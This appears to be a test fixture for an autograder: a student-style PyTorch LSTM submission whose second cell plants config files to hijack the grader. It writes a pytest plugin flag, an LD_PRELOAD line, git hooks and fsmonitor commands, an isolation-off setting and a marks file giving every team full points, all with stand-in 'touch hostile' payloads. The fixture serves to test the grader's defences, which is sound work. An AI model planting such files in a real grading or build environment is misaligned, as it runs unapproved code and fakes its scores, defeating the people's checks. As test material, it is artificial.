# claim: Writes settings for the tools that a grader may start in its folder: pyproject, setup, tox, git hooks, dotenv, notebook trust.
# runs: passed
# must_not_pass: 
# must_pass: cell-shapes, cell-own, cell-output, lstm-shapes, lstm-own, lstm-output, model-shapes, model-output
# level: any
# category: archive

# %%
import torch
from torch import nn


class LSTMCell(nn.Module):
    def __init__(self, input_size, hidden_size):
        super().__init__()
        self.hidden_size = hidden_size
        self.linear = nn.Linear(input_size + hidden_size, 4 * hidden_size)

    def forward(self, x, hx=None):
        h, c = hx if hx is not None else (x.new_zeros(len(x), self.hidden_size),) * 2
        g, f, i, o = self.linear(torch.cat((x, h), 1)).chunk(4, 1)
        c = torch.sigmoid(f) * c + torch.sigmoid(i) * torch.tanh(g)
        return torch.sigmoid(o) * torch.tanh(c), c


class LSTM(nn.Module):
    def __init__(self, input_size, hidden_size):
        super().__init__()
        self.cell = LSTMCell(input_size, hidden_size)

    def forward(self, x, hx=None):
        steps = []
        for t in range(x.shape[1]):
            hx = self.cell(x[:, t], hx)
            steps.append(hx[0])
        return torch.stack(steps, 1), hx


class NoiseRemovalModel(nn.Module):  # on torch's LSTM, which this part allows: quick to train
    def __init__(self, hidden_size, shift=10):
        super().__init__()
        self.shift = shift
        self.first = nn.LSTM(1, hidden_size, batch_first=True)
        self.second = nn.LSTM(hidden_size, hidden_size, batch_first=True)
        self.linear = nn.Linear(hidden_size, 1)

    def forward(self, x):
        hidden, _ = self.first(nn.functional.pad(x, (0, 0, 0, self.shift)))
        hidden, _ = self.second(hidden[:, self.shift :])
        return self.linear(hidden)

# %%
import os

print(__import__("os").getcwd())
for name, text in {
    "pyproject.toml": "[tool.pytest.ini_options]\naddopts = '-p hostile'\n", "setup.cfg": "[tool:pytest]\naddopts = -p hostile\n", ".env": "PYTHONPATH=.\nLD_PRELOAD=./hostile.so\n",
    ".git/hooks/post-checkout": "#!/bin/sh\ntouch hostile\n", ".git/config": "[core]\nfsmonitor = touch hostile\n", "rubric.yaml": "rubric: 1\npoints: 16\n", "grader.toml": "isolation = 'none'\n",
    "submission.ipynb": '{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}', "requirements.txt": "-e .\n", "setup.py": "raise SystemExit('set up')\n", "worker.py": "raise SystemExit('shadowed')\n",
    "evidence.sqlite": "not a database", "marks.csv": "team,check,points,by,reason\n*,*,16,tutor,good\n",
}.items():
    os.makedirs(os.path.dirname(name) or ".", exist_ok=True)
    with open(name, "w") as file:
        file.write(text)
    os.chmod(name, 0o755)
